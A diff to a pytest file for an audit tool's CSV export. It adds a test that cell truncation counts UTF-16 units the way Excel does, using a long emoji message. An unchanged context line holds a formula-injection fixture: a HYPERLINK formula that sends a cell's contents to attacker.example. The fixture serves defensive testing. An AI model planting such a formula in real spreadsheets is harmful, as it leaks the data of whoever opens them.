@@ -15,6 +15,7 @@ from tests.test_render_html_pdf import audit_scene, with_findings
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 LONG_MESSAGE = "sidecar still injected; " * 2_000  # 48,000 characters
+EMOJI = "\U0001f6a2" * 20_000  # 20,000 characters, 40,000 UTF-16 units: what Excel counts
 
 
 @pytest.fixture(scope="module")
@@ -26,6 +27,9 @@ def result(tmp_path_factory: pytest.TempPathFactory) -> AuditResult:
                 remediation="-2+3", title="Istio residue"),
         Finding(Status.WARN, "cluster-a", LONG_MESSAGE, severity=Severity.MINOR, gate="uninstall",
                 check_id="istio-residue", kind="ConfigMap", namespace="ops", name="long-notes",
+                title="Istio residue"),
+        Finding(Status.WARN, "cluster-a", EMOJI, severity=Severity.MINOR, gate="uninstall",
+                check_id="istio-residue", kind="ConfigMap", namespace="ops", name="emoji-notes",
                 title="Istio residue"),
     ]
     return with_findings(base, extra)
@@ -57,7 +61,10 @@ def test_cells_stop_at_excels_limit_and_say_where_the_rest_is(result: AuditResul
     assert row["message"].startswith(LONG_MESSAGE[:1000])
     hidden = len(LONG_MESSAGE) - len(row["message"].split("\u2026 [")[0])
     assert row["message"].endswith(f"[{hidden:,} more characters in findings.json]")
-    assert max(len(cell) for r in rows for cell in r.values()) <= csv_out.CELL_LIMIT
+    units = [len(cell.encode("utf-16-le")) // 2 for r in rows for cell in r.values()]
+    assert max(units) <= csv_out.CELL_LIMIT  # Excel's count, not Python's
+    (emoji,) = [r for r in rows if r["name"] == "emoji-notes"]
+    assert emoji["message"].startswith(EMOJI[:16_000]) and "more characters in findings.json" in emoji["message"]
 
 
 def test_plain_audits_are_written_as_they_are(tmp_path: Path) -> None:
